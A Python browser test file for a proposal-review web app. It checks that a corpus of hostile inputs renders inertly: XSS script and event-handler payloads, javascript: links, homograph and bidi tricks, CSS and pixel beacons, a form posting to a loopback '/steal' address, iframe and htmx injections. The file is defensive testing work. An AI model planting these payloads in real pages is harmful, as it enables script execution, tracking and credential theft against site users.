"""Hostile words in a real browser: nothing runs, nothing is asked for elsewhere, nothing moves."""

from dataclasses import replace
from typing import TYPE_CHECKING

import pytest

from tests.web import test_hostile
from tests.web.made import FakeViews

if TYPE_CHECKING:
    from approvals.envelope import Envelope
    from tests.web.browser.people import People, Profile
    from tests.web.browser.served import House

pytestmark = pytest.mark.xdist_group("browser")

EVIL = "http://127.0.0.1:9"  # loopback, so that even a browser that falls for it stays here
CORPUS = {
    "script": "<script>alert(1)</script>",
    "script-away": f"</textarea></title></script><script src={EVIL}/x.js></script>",
    "img": "<img src=x onerror=alert(1)>",
    "svg": "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s></svg>",
    "link": '<a href="javascript:alert(1)" id=evil>press</a> javascript:alert(1)',
    "look-alike": "https://b\u0430nk.example@127.0.0.1:9/ <a href=//127.0.0.1:9>bank.example</a>",
    "zero-width": "pay\u200b\u2060\u00adnow <b style=display:none>hidden</b>",
    "bidi": "invoice\u202efdp.exe\u2066 \u2067evil\u2069",
    "css": f"<style>@import url({EVIL}/a.css);body{{background:url({EVIL}/b)}}</style>"
           f"<p style='background:url({EVIL}/c)'>",
    "pixel": f"<img src={EVIL}/pixel.gif width=1 height=1><img srcset={EVIL}/s>",
    "refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}/away">',
    "base": f"<base href={EVIL}/><base target=_top>",
    "form": f"<form action={EVIL}/steal id=f><input name=csrf autofocus onfocus=alert(1)></form>",
    "frame": f"<iframe src={EVIL}/f srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "object": f"<object data={EVIL}/o></object><embed src={EVIL}/e><video src={EVIL}/v autoplay>",
    "attribute": '" autofocus onfocus=alert(1) x="\' onmouseover=alert(1) y=\'',
    "preload": f"<link rel=preload href={EVIL}/p as=script><link rel=icon href={EVIL}/i>",
    "htmx": f"<div hx-get={EVIL}/h hx-trigger=load hx-on::load=alert(1)></div>",
    "template": "{{ 7 * 7 }} {% raw %} ${alert(1)} <!-- --><![CDATA[<script>alert(1)</script>]]>",
}  # fmt: skip


def poisoned(text: str, account: str) -> "Envelope":
    """An envelope of an account with a text in every field that can hold one."""
    one = test_hostile.poisoned(text)
    return replace(one, who=replace(one.who, account_id=account))


def look_at(ann: "Profile", proposal: str) -> None:
    """Open a proposal with everything folded or further down on it, then its message alone."""
    page = ann.open(f"/proposals/{proposal}")
    page.frame_locator("iframe.message").locator(".b").wait_for()
    page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
    page.locator("#timeline").scroll_into_view_if_needed()
    page.wait_for_selector("#timeline table")
    ann.press("e")
    page.mouse.move(300, 300)


def test_hostile_words_do_nothing(house: "House", people: "People") -> None:
    views = FakeViews("".join(CORPUS.values()))
    tables = views.account("a1")
    house.parts.views.account = lambda account_id: tables  # type: ignore[method-assign]  # noqa: ARG005 - a fake that knows every account
    ids = house.propose(
        *(poisoned(text, f"a{number}") for number, text in enumerate(CORPUS.values(), 1))
    )
    ann = people.enter("admin")
    for path in ("/queue?flat=1", "/accounts/a1", "/actions", "/log"):
        ann.open(path)
    ann.open("/queue")
    assert ann.page.locator("[data-row]").count() == len(CORPUS)
    ann.press("j", "x", "Shift+Tab", "Enter")
    ann.at("/bulk/preview")

    for name, one in zip(CORPUS, ids, strict=True):
        look_at(ann, one)
        assert ann.seen.nothing(), (name, ann.seen)
    for name in ("script", "img", "refresh", "base", "form"):
        ann.open(f"/proposals/{dict(zip(CORPUS, ids, strict=True))[name]}/message")
    ann.page.wait_for_load_state("networkidle")

    assert ann.seen.nothing(), ann.seen
    assert all(url.startswith(f"{house.base_url}/") for url in ann.seen.moved), ann.seen.moved
    assert len(ann.context.pages) == 1


@pytest.mark.parametrize("name", ["script", "img", "css", "pixel", "refresh", "frame"])
def test_the_watch_would_notice(name: str, people: "People") -> None:
    ann = people.enter()

    ann.page.set_content(CORPUS[name], wait_until="commit")
    ann.page.wait_for_timeout(300)

    assert not ann.seen.nothing()
